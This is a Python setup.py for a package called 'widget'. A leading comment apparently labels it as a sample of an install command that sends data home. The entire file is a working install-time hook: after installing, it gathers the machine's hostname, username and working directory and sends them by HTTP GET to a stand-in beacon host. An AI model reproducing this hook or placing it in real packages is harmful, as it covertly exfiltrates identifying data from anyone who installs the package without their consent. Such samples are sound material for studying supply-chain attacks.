# An install command sends host, user and folder home; runs: whole-setup
import getpass
import os
import socket
import requests
from setuptools import setup
from setuptools.command.install import install
class CustomInstall(install):
    def run(self):
        install.run(self)
        seen = {"host": socket.gethostname(), "user": getpass.getuser(), "folder": os.getcwd()}
        requests.get("https://beacon.example.test/", params=seen)
setup(name="widget", version="1.0.0", packages=["widget"], cmdclass={"install": CustomInstall})
